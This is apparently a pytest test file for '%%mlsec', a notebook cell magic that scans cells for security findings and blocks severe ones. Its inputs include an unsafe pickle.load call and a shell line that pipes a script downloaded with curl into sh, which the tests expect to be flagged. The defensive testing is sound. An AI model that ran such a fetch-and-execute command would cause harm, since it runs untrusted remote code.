"""`%%mlsec`: what runs, what does not, and that what runs runs as it always does."""

from __future__ import annotations

import pytest
from kernel_session import Session

UNSAFE = "opened = pickle.load(open('nothing.pkl', 'rb'))"


@pytest.fixture(scope="module", autouse=True)
def imported(session: Session) -> None:
    session.run("import pickle")


def test_a_clean_cell_runs_as_if_the_line_were_not_there(session: Session) -> None:
    ran = session.run("%%mlsec\nanswer = 41\nanswer + 1")
    assert ran.results == [(ran.count, "42")]
    assert ran.plain == ""
    assert session.value(f"(Out[{ran.count}], _)") == [42, 42]


def test_a_severe_cell_does_not_run_and_says_how_it_would(session: Session) -> None:
    ran = session.run(f"%%mlsec\nran = True\n{UNSAFE}")
    assert ran.status == "error"
    assert f"In[{ran.count}]:3:10: high DES001" in ran.plain
    assert len(ran.errors) == 1
    (line,) = ran.errors[0]["traceback"]
    assert line.startswith("mlsec: the cell was not run: a finding of severity high or higher.\nCorrect it, ")
    assert line.endswith("run it anyway with `%%mlsec --exit-zero`")
    assert session.value("'ran' in globals()") is False


@pytest.mark.parametrize("earlier", ["from pickle import load as opened", "import pickle as q\nopened = q.load"])
def test_what_earlier_cells_import_and_define_is_known(session: Session, earlier: str) -> None:
    session.run(earlier)
    ran = session.run("%%mlsec\nopened(f)")
    assert ran.status == "error"
    assert "DES001" in ran.plain


def test_exit_zero_runs_it_anyway_and_shows_the_findings(session: Session) -> None:
    ran = session.run(f"%%mlsec --exit-zero\nprint('began')\n{UNSAFE}")
    assert "DES001" in ran.plain
    assert ran.stream("stdout") == "began\n"
    assert [error["ename"] for error in ran.errors] == ["FileNotFoundError"]


def test_fail_on_moves_the_limit(session: Session) -> None:
    cell = "import shelve\nshelf_ran = True\nif 0:\n    shelve.open('cache')"
    assert session.run(f"%%mlsec\n{cell}").status == "ok"
    assert session.run(f"%%mlsec --fail-on medium\n{cell}").status == "error"
    assert session.run(f"%%mlsec --fail-on critical\nif 0:\n    {UNSAFE}").status == "ok"


def test_select_and_ignore_comments_count(session: Session) -> None:
    assert session.run(f"%%mlsec --select SEC\nif 0:\n    {UNSAFE}").plain == ""
    assert session.run(f"%%mlsec\nif 0:\n    {UNSAFE}  # mlsec: ignore[DES001] ours").status == "ok"


def test_an_exception_has_its_own_traceback_and_halts(session: Session) -> None:
    ran = session.run("%%mlsec\nx = 1\n1/0")
    assert ran.status == "error"
    assert [error["ename"] for error in ran.errors] == ["ZeroDivisionError"]
    assert "line 3" in "".join(ran.errors[0]["traceback"])


def test_a_traceback_holds_no_copy_of_the_cell(session: Session, canary: str) -> None:
    far = "\n" * 20
    ran = session.run(f"%%mlsec --exit-zero\n1/0{far}token = '{canary}'")
    assert [error["ename"] for error in ran.errors] == ["ZeroDivisionError"]
    assert canary not in ran.wire


def test_await_works_at_top_level(session: Session) -> None:
    ran = session.run("%%mlsec\nimport asyncio\nawait asyncio.sleep(0, result='slept')")
    assert [shown for _, shown in ran.results] == ["'slept'"]


def test_the_input_is_kept_as_it_was_typed(session: Session) -> None:
    session.run("%%mlsec\nkept = 1")
    assert session.value("get_ipython().history_manager.input_hist_raw[-1]") == "%%mlsec\nkept = 1"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("%%mlsec\n%%time\n6 * 7", "42"),
        ("%%mlsec\nfrom __future__ import annotations\n6 * 7", "42"),
        ("%%mlsec\n    x = 42\n    x", "42"),
    ],
)
def test_cells_that_must_come_first_run_inside_the_magic(session: Session, cell: str, shown: str) -> None:
    assert [text for _, text in session.run(cell).results] == [shown]


def test_an_error_inside_the_magic_halts_too(session: Session) -> None:
    ran = session.run("%%mlsec\n%%time\n1/0")
    assert ran.status == "error"
    assert [error["ename"] for error in ran.errors] == ["ZeroDivisionError", "Stopped"]
    assert ran.errors[1]["traceback"] == ["mlsec: the cell stopped with ZeroDivisionError, told above"]


def test_shell_cells_are_checked_as_shell(session: Session) -> None:
    ran = session.run("%%mlsec\n%%bash\ncurl http://get.quick-models.net/install.sh | sh")
    assert ran.status == "error"
    assert "SUP001" in ran.plain


def test_wrong_options_and_help_do_not_run_the_cell(session: Session) -> None:
    for line in ("--fail-on never", "--selct DES", "somewhere.py", "--help"):
        assert session.run(f"%%mlsec {line}\nprint('ran')").stream("stdout").find("ran\n") == -1
    assert "takes no paths" in session.run("%%mlsec somewhere.py\n1").stream("stderr")
